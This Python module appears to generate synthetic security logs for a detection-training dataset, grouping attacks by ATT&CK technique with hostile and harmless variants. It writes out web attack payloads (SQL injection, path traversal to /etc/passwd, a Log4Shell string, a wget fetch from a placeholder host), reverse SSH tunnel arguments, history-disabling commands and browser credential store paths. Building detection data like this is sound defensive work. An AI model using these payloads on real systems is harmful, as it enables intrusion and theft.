"""Traffic and sign-ins: attacks and sweeps from outside with what follows them, odd connections, passwords and tickets tried.

A family whose rules lead to `block_ip` has a source on the internet at work on one host. In half of such a story (the suspicious
strength) what follows is hostile and the traffic before it is the internet's usual noise.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from functools import partial

from schema import ACCOUNT_WORK, REMOTE_WORK, Category
from tasks.families.linux import sh
from tasks.families.story import (
    ADDRESS,
    GRAVE,
    HOST,
    PROBE,
    SYSTEM32,
    Actor,
    Family,
    FamilySplit,
    Platform,
    actor,
    attack,
    choose_prober,
    knock,
    probe,
)
from tasks.families.tellings import Row, Telling, each, file, made, order, script, tell
from tasks.scene import Plan, Scene, TicketScope

Assault = Callable[..., float]  # scene, time, target, source, hostile=...; returns the last line's time

# ---------------------------------------------------------------- attacks on web applications (OWASP Top Ten 2021, A01, A03 and A05)
FORM_URLS = (
    "/{}/login?user={}'%20or%20'1'='1",
    "/{}?id=7%20UNION%20ALL%20SELECT%20name,2,3",
    "/{}?id=7;exec%20xp_cmdshell%20'dir'",
    "/{}?q={}%22%20or%201=1--",
    "/api/{}?sort=(select%201%20from%20{})%20union%20select%20{}",
)
FILE_URLS = (
    "/{}?file=../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f{}",
    "/{}/.env",
    "/.git/config",
    "/{}/..%2f..%2f..%2f{}.ini",
    "/download?name=....//../../{}",
)
CODE_URLS = (
    "/{}?x=${jndi:ldap://{}.net/a}",
    "/search?q=<script>{}()</script>",
    "/index.php?page=php://input&{}",
    "/cgi-bin/{}?host=;%20wget%20http://{}.net/a",
    "/{}?cmd=|/bin/sh%20-c%20{}",
    "/{}.php?c=eval({})",
    "/{}?run=cmd.exe%20/c%20{}",
)


def _burst(
    name: str, technique: str, category: Category, rule: str, assault: Assault, split: FamilySplit = "train"
) -> Family:
    """Make a family of one burst: from outside, from another host of ours (suspicious), or by an authorised scanner."""

    def play(scene: Scene, plan: Plan) -> TicketScope:
        host, ip, source = choose_prober(scene, plan)
        first = scene.moment(500)
        last = assault(scene, first, Actor(host, ip, ""), source, hostile=plan.strength != "below")
        return TicketScope((host,), "", "", first, last)

    return Family(
        name,
        technique,
        category,
        play,
        ADDRESS,
        explanations=PROBE,
        single=True,
        names_account=False,
        rules=(rule,),
        platform="network",
        split=split,
        most_lines=29,
    )


def _followed(
    name: str,
    technique: str,
    category: Category,
    rules: tuple[str, str],
    assault: Assault,
    hostile: Sequence[Telling],
    harmless: Sequence[Telling],
    platform: Platform = "windows",
    split: FamilySplit = "train",
) -> Family:
    """Make a family of an assault from outside, and what is suspicious on that host after it.

    Args:
        rules: the rule of what follows, and the assault's.
    """

    def play(scene: Scene, plan: Plan) -> TicketScope:
        who, first = actor(scene, plan), scene.moment(1500)
        end = assault(scene, first, who, scene.public_address(), hostile=plan.strength == "confirmed")
        telling = scene.pick(harmless if plan.strength == "below" else hostile)
        _, last = tell(scene, who, telling, end + scene.between(20, 300))
        return who.scope("", first, last)

    return Family(
        name,
        technique,
        category,
        play,
        ADDRESS,
        explanations=(),
        names_account=False,
        rules=rules,
        platform=platform,
        split=split,
        most_lines=32,
    )


def attack_with(*urls: str) -> Assault:
    """Return the assault that sends some requests."""
    return partial(attack, urls=urls)


# ---------------------------------------------------------------- what follows, hostile and harmless
def _account(name: str, attributes: str, activity: str = "create") -> Row:
    return Row("account", activity, {"user_name": name, "attributes": attributes}, after=(60, 600))


def _lived(made_up: str, removed: str, attributes: str = "SAM account enabled") -> Telling:
    return [_account(made_up, attributes), _account(removed, "SAM account removed", "delete")]


def _logon(activity: str, **fields: object) -> Row:
    return Row("logon", activity, {"user_name": "{user}", **fields}, user="")


SHORT_LIVED = ([_lived("{word}.{word2}", "{word}.{word2}")], [_lived("{word}.{word2}", "{other_user}")])
BORROWED = (
    each(
        _logon("success", logon_type=9, logon_process="seclogo", auth_protocol="Negotiate", src_ip="127.0.0.1"),
        _logon("success", logon_type=3, logon_process="Kerberos", auth_protocol="Kerberos", src_ip="127.0.0.1"),
    ),
    each(
        _logon("success", logon_type=9, logon_process="Advapi", auth_protocol="Negotiate", src_ip="127.0.0.1"),
        _logon("success", logon_type=3, logon_process="Kerberos", auth_protocol="Kerberos", src_ip="{other_ip}"),
    ),
)
TUNNELS = ("-N -R 8080:localhost:22 {word}@{domain}", "-f -N -D 1080 {word}@{address}", "-fN -R *:3389 {word}@{domain}")
NO_TUNNELS = ("-N -L 8080:localhost:22 {word}@{domain}", "-o Ciphers=aes256-ctr {word}@{address}", "-v {word}@{domain}")
UNRECORDED = (
    each(sh("unset HISTFILE", "/usr/bin/sudo"), sh("set +o history", "/usr/bin/sudo")),
    each(sh("unset {word}", "/usr/bin/sudo"), sh("set -o history", "/usr/bin/sudo")),
)


def _transfer(*urls: str) -> Row:
    fields = {"url": urls, "process_path": SYSTEM32 + "svchost.exe", "bytes_in": 48_000}
    return Row("net_conn", "bits_job", fields)


TRANSFERRED = (
    each(
        _transfer("http://{address}/{word}.bin", "https://{address}:8443/{word}", "\\\\{other_host}\\{word}$\\{word2}")
    ),
    each(_transfer("http://{domain}/{word}.bin", "https://{domain}:8443/{word}")),
)


def _reads(*names: str) -> Telling:
    """Tell of directory objects that an account reads."""
    return [
        Row(
            "directory",
            "access",
            {
                "object_dn": f"CN={name},OU=Staff,DC=corp,DC=example",
                "object_type": "user",
                "properties": "Read Property",
                "access_mask": "0x10",
            },
            after=(1, 7),
        )
        for name in names
    ]


READ_OBJECTS = (
    [_reads(*(f"{{word{number}}}" for number in range(13)))],
    [_reads(*("{word1}", "{word2}") * 6, "{word1}")],
)


# ---------------------------------------------------------------- connections
def _connection(program: object, target: str, port: object, **fields: object) -> Row:
    ours = target != "{address}" and not target.startswith("{address")
    return Row(
        "net_conn",
        "open",
        {
            "src_ip": "{ip}",
            "dst_ip": target,
            "dst_port": port,
            "direction": "lateral" if ours else "outbound",
            "process_path": program,
            "dst_scope": "internal" if ours else "external",
            **fields,
        },
    )


_ODD_PORTS = (4444, 8443, 9001, 5555, 1337)
_SCRIPTERS = tuple(
    SYSTEM32 + name for name in ("WindowsPowerShell\\v1.0\\powershell.exe", "wscript.exe", "certutil.exe", "mshta.exe")
)
_NO_NETWORK = tuple(SYSTEM32 + name for name in ("notepad.exe", "calc.exe", "mspaint.exe", "gpupdate.exe"))


def _odd_names(domain: str) -> Telling:
    """Tell of many names of middle length that a program asks for under a domain; `{domain}` and a number is another for each."""
    return [
        Row(
            "dns_query",
            "query",
            {
                "query_hostname": f"{{token{number}}}.x.{domain.format(number)}",
                "src_ip": "{ip}",
                "process_path": "{installed}",
            },
            after=(2, 20),
        )
        for number in range(23)
    ]


def _tries(ports: Sequence[int], *targets: str, state: object = ("S0", "REJ", "RSTRH")) -> Telling:
    """Tell of connections that the network's sensor sees, to ports of targets in turn."""
    return [
        Row(
            "net_conn",
            "flow",
            {
                "src_ip": "{ip}",
                "dst_ip": targets[number % len(targets)],
                "dst_port": port,
                "direction": "outbound",
                "dst_scope": "external",
                "conn_state": state,
            },
            after=(1, 12),
            user="",
        )
        for number, port in enumerate(ports)
    ]


_PORTS = tuple(range(8001, 8013))
_STRANGERS = tuple(f"{{address{number}}}" for number in range(12))


def _calls(program: str, targets: Sequence[str], after: tuple[int, int] = (118, 123)) -> Telling:
    """Tell of a program's sessions with targets in turn, as the network's sensor sees them."""
    return [
        Row(
            "net_conn",
            "tls_session",
            {
                "src_ip": "{ip}",
                "dst_ip": targets[number % len(targets)],
                "dst_port": 443,
                "tls_sni": "{domain}",
                "direction": "outbound",
                "process_path": program,
                "dst_scope": "external",
            },
            after=after,
        )
        for number in range(8)
    ]


def _packed(host: str, user: str, size: int) -> Telling:
    """Tell of an archive that an account writes on a host, and of what a program sends out."""
    return [
        file(
            ("D:\\Work\\{word}.zip", "D:\\Work\\{word}.7z", "D:\\Work\\{word}.rar"),
            "C:\\Program Files\\7-Zip\\7zG.exe",
            host=host,
            user=user,
        ),
        _connection("C:\\Program Files\\Transfer\\{word2}.exe", "{address}", 443, bytes_out=size, bytes_in=90_000),
    ]


# ---------------------------------------------------------------- credential access
def guessed_tickets(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a source asks a domain controller for tickets with wrong passwords; in the harmless strength, a user mistypes all day."""
    name, _, source = choose_prober(scene, plan)
    user = scene.account(plan.privileged)["name"]
    gaps = (125, 170) if plan.strength == "below" else (2, 18)
    first = last = scene.moment(2100)
    for _ in range(scene.between(8, 12)):
        last = scene.add(
            last + scene.between(*gaps),
            "kerberos",
            "preauth_failure",
            name,
            user_name=user,
            service_name="krbtgt",
            preauth_type=2,
            status="0x18",
            src_ip=source,
        )
    return TicketScope((name,), user, "", first, last)


def nameless_failures(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how sign-ins fail of which a service passes on only the address or only the account; in the harmless strength, all day."""
    who, first = actor(scene, plan), scene.moment(1900)
    source = scene.pick(scene.cast_hosts)["ip"] if plan.strength == "suspicious" else scene.public_address()
    gaps = (125, 170) if plan.strength == "below" else (2, 18)
    last = first
    for index in range(scene.between(8, 11)):
        known = {"src_ip": source} if index % 2 else {"user_name": who.user}
        last = scene.add(
            last + scene.between(*gaps), "logon", "failure", who.host, logon_type=8, status="0xc000006d", **known
        )
    return who.scope("", first, last)


def unguarded_tickets(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how one source gets tickets without preauthentication; in half of it, none that is easily broken."""
    who, first = actor(scene, plan), scene.moment(300)
    last, weak = first, scene.pick(("0x17", "0x18")) if plan.strength == "confirmed" else "0x12"
    for user in (who.user, *scene.some([name for name in scene.organisation.accounts if name != who.user], 5)):
        last = scene.add(
            last + scene.between(1, 40),
            "kerberos",
            "tgt",
            who.host,
            user_name=user,
            service_name="krbtgt",
            ticket_encryption=weak,
            preauth_type=2 if plan.strength == "below" else 0,
            status="0x0",
            src_ip=who.ip,
        )
    return who.scope("", first, last)


def _machine_ticket(machine: str) -> Telling:
    """Tell of an account that is made with a machine's name, and gets a ticket to a machine."""
    ticket = {"user_name": "{other_host}", "service_name": f"{machine}$", "ticket_encryption": "0x12", "src_ip": "{ip}"}
    return [
        _account("{other_host}", "SAM account enabled"),
        Row("kerberos", "tgs", ticket, after=(20, 300), user=""),
    ]


def _stores(share: str, *paths: str) -> list[Telling]:
    """Tell of each of some files of another account that is read over a share."""
    return each(
        *(
            Row(
                "share",
                "access",
                {
                    "share_name": f"\\\\*\\{share}",
                    "file_path": f"Users\\{{other_user}}\\{path}",
                    "access_mask": "0x1",
                    "src_ip": "{other_ip}",
                },
            )
            for path in paths
        )
    )


_PROFILE = "AppData\\Local\\Google\\Chrome\\User Data\\Default\\"
_STORES = (
    f"{_PROFILE}Login Data",
    f"{_PROFILE}Cookies",
    "AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\{hex}.default\\logins.json",
    "AppData\\Roaming\\Microsoft\\Protect\\{hex}",
    "AppData\\Local\\Microsoft\\Vault\\{hex}",
)


def _keys(container: str, query: str) -> Telling:
    """Tell of a container of the directory that is read, and a query by a script."""
    fields = {
        "object_dn": f"CN={{hex}},{container},CN=Program Data,DC=corp,DC=example",
        "object_type": "contact",
        "properties": "Read Property thumbnailPhoto",
        "access_mask": "0x10",
    }
    return [Row("directory", "access", fields), script(query, after=(20, 300))]


_KEYS, _NO_KEYS = "CN=ADFS,CN=Microsoft", "CN={word},CN=Microsoft"
_SETTINGS = "SELECT ServiceSettingsData FROM IdentityServerPolicy.ServiceSettings"
_NO_SETTINGS = "SELECT {word} FROM {word2}.ServiceSettings"

FAMILIES: tuple[Family, ...] = (
    # ---------------------------------------------------------------- from outside
    _burst("injected_form", "T1190", "initial_access", "web-attack", attack_with(*FORM_URLS)),
    _burst("fetched_secrets", "T1190", "initial_access", "web-attack", attack_with(*FILE_URLS)),
    _burst("injected_code", "T1190", "initial_access", "web-attack", attack_with(*CODE_URLS)),
    _burst("knocked_desktop", "T1046", "discovery", "sign-in-sweep", knock),
    _followed(
        "passing_account",
        "T1136",
        "persistence",
        ("odd-account", "web-attack"),
        attack_with(*FORM_URLS, *CODE_URLS),
        *SHORT_LIVED,
    ),
    _followed(
        "borrowed_session",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon", "service-probing"),
        probe,
        *BORROWED,
    ),
    _followed(
        "read_directory",
        "T1087.002",
        "discovery",
        ("ticket-sweep", "web-attack"),
        attack_with(*CODE_URLS),
        *READ_OBJECTS,
    ),
    _followed(
        "tunnelled_back",
        "T1572",
        "command_and_control",
        ("traffic-forwarded", "web-attack"),
        attack_with(*FILE_URLS, *CODE_URLS),
        [[order("/usr/bin/ssh", *TUNNELS, parent="/usr/bin/bash")]],
        [[order("/usr/bin/ssh", *NO_TUNNELS, parent="/usr/bin/bash")]],
        platform="linux",
    ),
    _followed(
        "unrecorded_shell",
        "T1070.003",
        "defense_evasion",
        ("shell-history-off", "service-probing"),
        probe,
        *UNRECORDED,
        platform="linux",
    ),
    _followed(
        "fetched_by_job",
        "T1197",
        "command_and_control",
        ("transfer-job", "sign-in-sweep"),
        knock,
        *TRANSFERRED,
    ),
    # ---------------------------------------------------------------- accounts and sign-ins
    made(
        "disguised_account",
        "T1136",
        "persistence",
        ("odd-account",),
        ACCOUNT_WORK,
        confirmed=[_lived("{other_host}$", "{other_user}", "set: normal account")],
        suspicious=[_lived("{word}.{word2}", "{word}.{word2}", "set: normal account")],
        below=[
            _lived("{other_host}$", "{other_user}", "set: workstation trust account"),
            _lived("{word}.{word2}", "{other_user}", "set: normal account"),
        ],
        reaches=GRAVE,
    ),
    made(
        "passed_logon",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon",),
        suspicious=BORROWED[0],
        below=BORROWED[1],
        explanations=(),
    ),
    # ---------------------------------------------------------------- connections
    made(
        "odd_connection",
        "T1105",
        "command_and_control",
        ("script-host-connects",),
        confirmed=[
            [_connection(program, target, port)]
            for program in _NO_NETWORK
            for target, port in (("{address}", _ODD_PORTS), ("{other_ip}", (445, 8080)))
        ],
        suspicious=[
            [_connection(program, target, port)]
            for program in _SCRIPTERS
            for target, port in (("{address}", _ODD_PORTS), ("{other_ip}", (135, 445)))
        ],
        below=[
            [_connection(program, target, port)]
            for program, port in (*((name, 443) for name in _SCRIPTERS), *((name, 8080) for name in _SCRIPTERS))
            for target in (("{address}", "{other_ip}") if port == 443 else ("{other_ip}",))
        ]
        + [[_connection(program, "127.0.0.1", _ODD_PORTS)] for program in _NO_NETWORK],
        reaches=HOST,
    ),
    made(
        "fetched_from_address",
        "T1197",
        "command_and_control",
        ("transfer-job",),
        suspicious=TRANSFERRED[0],
        below=TRANSFERRED[1],
    ),
    made(
        "unanswered_calls",
        "T1571",
        "command_and_control",
        ("unanswered-calls",),
        confirmed=[_tries(_PORTS, "{address}")],
        suspicious=[_tries((443,) * 12, *_STRANGERS), _tries((8443,) * 12, "{address}")],
        below=[
            _tries(_PORTS, "{address}", state="SF"),
            _tries((443,) * 12, *_STRANGERS, state="SF"),
            _tries((8443,) * 12, "{address}", state="SF"),
        ],
        reaches=HOST,
        explanations=(),
        names_account=False,
        platform="network",
    ),
    made(
        "forwarded_port",
        "T1572",
        "command_and_control",
        ("traffic-forwarded",),
        suspicious=each(
            order("C:\\Windows\\System32\\OpenSSH\\ssh.exe", *TUNNELS),
            order("D:\\Tools\\plink.exe", *TUNNELS),
            order("/usr/bin/ssh", *TUNNELS, parent="/usr/bin/bash"),
        ),
        below=each(
            order("C:\\Windows\\System32\\OpenSSH\\ssh.exe", *NO_TUNNELS),
            order("D:\\Tools\\plink.exe", *NO_TUNNELS),
            order("/usr/bin/ssh", *NO_TUNNELS, parent="/usr/bin/bash"),
        ),
        platform="linux",
    ),
    made(
        "generated_names",
        "T1568.002",
        "command_and_control",
        ("many-odd-names",),
        suspicious=[_odd_names("{{domain}}")],
        below=[_odd_names("{{domain{}}}")],
        platform="network",
    ),
    made(
        "timed_sessions",
        "T1071.001",
        "command_and_control",
        ("beaconing",),
        confirmed=[_calls("{writable}", ["{address}"])],
        suspicious=[_calls("{installed}", ["{address}"])],
        below=[
            _calls("{writable}", [f"{{address{number}}}" for number in range(4)]),
            _calls("{writable}", ["{address}"], after=(2, 400)),
            _calls("{installed}", ["{address}"], after=(2, 400)),
        ],
        reaches=HOST,
        platform="network",
    ),
    made(
        "packed_upload",
        "T1567",
        "exfiltration",
        ("bulk-upload",),
        confirmed=[_packed("{host}", "{user}", 900_000_000)],
        suspicious=[_packed("{host}", "{other_user}", 900_000_000), _packed("{other_host}", "{user}", 900_000_000)],
        below=[_packed("{host}", "{user}", 90_000_000)],
        reaches=GRAVE,
        explanations=(),
        platform="network",
    ),
    # ---------------------------------------------------------------- credential access
    Family(
        "guessed_tickets",
        "T1110.003",
        "credential_access",
        guessed_tickets,
        ADDRESS,
        explanations=PROBE,
        single=True,
        names_account=False,
        rules=("kerberos-guessing",),
        platform="network",
    ),
    Family(
        "nameless_failures",
        "T1110",
        "credential_access",
        nameless_failures,
        ADDRESS,
        explanations=(),
        single=True,
        names_account=False,
        rules=("failures-on-host",),
        platform="network",
    ),
    Family(
        "unguarded_tickets",
        "T1558.004",
        "credential_access",
        unguarded_tickets,
        GRAVE,
        explanations=(),
        rules=("ticket-without-preauth",),
    ),
    made(
        "machine_named_ticket",
        "T1558",
        "credential_access",
        ("machine-name-ticket",),
        confirmed=[_machine_ticket("{other_host}")],
        below=[_machine_ticket("{host}")],
        reaches=GRAVE,
        explanations=(),
    ),
    made(
        "secrets_over_share",
        "T1555.003",
        "credential_access",
        ("secrets-over-share",),
        REMOTE_WORK,
        confirmed=_stores("C$", *_STORES),
        below=[*_stores("Profiles", *_STORES), *_stores("C$", "Documents\\{word}.docx", f"{_PROFILE}History")],
        reaches=HOST,
    ),
    made(
        "captured_traffic",
        "T1040",
        "credential_access",
        ("traffic-captured",),
        suspicious=each(
            order("pktmon.exe", "start --capture --file-name D:\\{word}.etl", "filter add -p 445"),
            order("netsh.exe", "trace start capture=yes tracefile=D:\\{word}.etl"),
            order("/usr/bin/tcpdump", "-i eth0 -w /srv/{word}.pcap", parent="/usr/bin/bash"),
        ),
        below=each(
            order("pktmon.exe", "stop", "counters --type drop"),
            order("netsh.exe", "trace show status", "trace stop"),
            order("/usr/bin/tcpdump", "--version", "-D", parent="/usr/bin/bash"),
        ),
    ),
    made(
        "read_signing_key",
        "T1552.004",
        "credential_access",
        ("signing-key-read",),
        confirmed=[_keys(_KEYS, _NO_SETTINGS), _keys(_KEYS, _SETTINGS)],
        suspicious=[_keys(_NO_KEYS, _SETTINGS)],
        below=[_keys(_NO_KEYS, _NO_SETTINGS)],
        reaches=GRAVE,
        explanations=(),
    ),
)
